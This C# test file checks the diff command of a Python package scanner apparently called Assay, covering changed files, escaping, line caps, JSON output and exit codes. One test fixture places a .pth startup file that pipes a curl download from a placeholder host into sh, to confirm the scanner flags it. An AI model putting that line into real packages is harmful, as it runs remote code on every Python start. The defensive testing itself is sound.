using System.Text.Json;

namespace Assay.Tests.Commands;

public sealed class DiffCommandTests : IDisposable
{
    private readonly TestConsole _console = new();

    public void Dispose() => _console.Dispose();

    [Fact]
    public async Task Two_wheels_of_one_content_have_nothing_new()
    {
        Assert.Equal(0, await _console.RunAsync("diff", _console.Wheel("a/good-1.0-py3-none-any.whl"), _console.Wheel("b/good-1.0-py3-none-any.whl")));
        Assert.Contains("no differences", _console.Output);
    }

    [Fact]
    public async Task New_files_and_lines_are_listed_escaped()
    {
        string old = _console.Wheel("good-1.0-py3-none-any.whl", ("good/text.py", "a = 1\nb = 2\n"));
        string now = _console.Wheel("good-1.1-py3-none-any.whl", ("good/text.py", "a = 1\nb = '\e[31m'\n"), ("good/more.py", "c = 3\n"));
        Assert.Equal(0, await _console.RunAsync("diff", old, now));
        Assert.Contains("files: 1 added, 0 removed, 3 changed", _console.Output);
        Assert.Contains("+ good/more.py  python 6 B, +1 -0 lines", _console.Output);
        Assert.Contains("~ good/text.py  python", _console.Output);
        Assert.Contains("@@ -2,1 +2,1 @@\n-b = 2\n+b = '\\x1b[31m'\n", _console.Output);
        Assert.Contains("@@ -0,0 +1,1 @@\n+c = 3\n", _console.Output);
    }

    [Fact]
    public async Task Lines_are_capped_and_said_to_be()
    {
        string old = _console.Wheel("good-1.0-py3-none-any.whl");
        string now = _console.Wheel("good-1.1-py3-none-any.whl", ("good/text.py", string.Concat(Enumerable.Range(0, 50).Select(static i => $"a{i} = 1\n"))));
        await _console.RunAsync("diff", old, now, "--lines", "10");
        Assert.Contains("+a9 = 1\n", _console.Output);
        Assert.DoesNotContain("a10 = 1", _console.Output);
        Assert.Contains("more lines: --lines N shows more", _console.Output);
        await _console.RunAsync("diff", old, now, "--lines", "0");
        Assert.DoesNotContain("a1 = 1", _console.Output);
        Assert.Equal(2, await _console.RunAsync("diff", old, now, "--lines", "-1"));
    }

    [Fact]
    public async Task A_new_startup_file_ends_with_1_and_stands_first()
    {
        string old = _console.Wheel("good-1.0-py3-none-any.whl");
        string now = _console.Wheel("good-1.1-py3-none-any.whl", ("good.pth", "import os; os.system('curl https://payload.example.invalid/x | sh')\n"));
        Assert.Equal(1, await _console.RunAsync("diff", old, now));
        Assert.Contains("new findings", _console.Output);
        Assert.Contains("startup-code", _console.Output);
        Assert.Contains("at every start of Python good.pth (added)", _console.Output);
        Assert.Matches("assay: exit code 1: new are 1 capability, 1 hook, [0-9]+ findings? of hold or worse\n", _console.Error);
        Assert.True(_console.Output.IndexOf("startup-code", StringComparison.Ordinal) < _console.Output.IndexOf("files:", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_side_that_could_not_be_read_ends_with_3()
    {
        string broken = _console.Folder["broken-1.0-py3-none-any.whl"];
        await File.WriteAllTextAsync(broken, "no archive");
        Assert.Equal(3, await _console.RunAsync("diff", broken, _console.Wheel("good-1.0-py3-none-any.whl")));
        Assert.Contains("not looked at: broken-1.0-py3-none-any.whl", _console.Output);
    }

    [Fact]
    public async Task A_folder_is_compared_with_a_folder()
    {
        foreach (string side in (string[])["one", "two"])
        {
            Directory.CreateDirectory(_console.Folder[$"{side}/pkg"]);
            await File.WriteAllTextAsync(_console.Folder[$"{side}/pkg/__init__.py"], $"side = '{side}'\n");
        }

        Assert.Equal(0, await _console.RunAsync("diff", _console.Folder["one"], _console.Folder["two"]));
        Assert.Contains("+side = 'two'", _console.Output);
    }

    [Fact]
    public async Task The_json_says_the_same()
    {
        _console.Set("SOURCE_DATE_EPOCH", "1800000000");
        string old = _console.Wheel("good-1.0-py3-none-any.whl", ("good/text.py", "a = 1\nb = 2\n"), ("good/gone.py", "x"));
        string now = _console.Wheel("good-1.1-py3-none-any.whl", ("good/text.py", "a = 1\nb = 3\n"), ("good.pth", "import good\n"));
        await _console.RunAsync("diff", old, now, "--format", "json");
        using JsonDocument document = JsonDocument.Parse(_console.Output);
        JsonElement root = document.RootElement;
        Assert.Equal("assay.diff/1", root.GetProperty("schema").GetString());
        Assert.Equal("2027-01-15T08:00:00Z", root.GetProperty("created").GetString());
        Assert.Equal("good.pth", root.GetProperty("hooks")[0].GetProperty("what").GetString());
        JsonElement[] members = [.. root.GetProperty("members").EnumerateArray()];
        Assert.Equal(
            ["good.dist-info/METADATA changed", "good.dist-info/RECORD changed", "good.pth added", "good/gone.py removed", "good/text.py changed"],
            members.Select(static member => $"{member.GetProperty("name").GetString()} {member.GetProperty("change").GetString()}"));
        JsonElement hunk = members[4].GetProperty("hunks")[0];
        Assert.Equal(("b = 2", "b = 3"), (hunk.GetProperty("removed")[0].GetString(), hunk.GetProperty("added")[0].GetString()));
    }

    [Fact]
    public async Task What_is_neither_file_nor_project_is_a_sentence()
    {
        Assert.Equal(2, await _console.RunAsync("diff", "./gone.whl", _console.Wheel("good-1.0-py3-none-any.whl")));
        Assert.Contains("there is no file", _console.Error);
        Assert.Equal(2, await _console.RunAsync("diff", _console.Wheel("x/good-1.0-py3-none-any.whl"), "./gone.whl", "--format", "sarif"));
    }
}
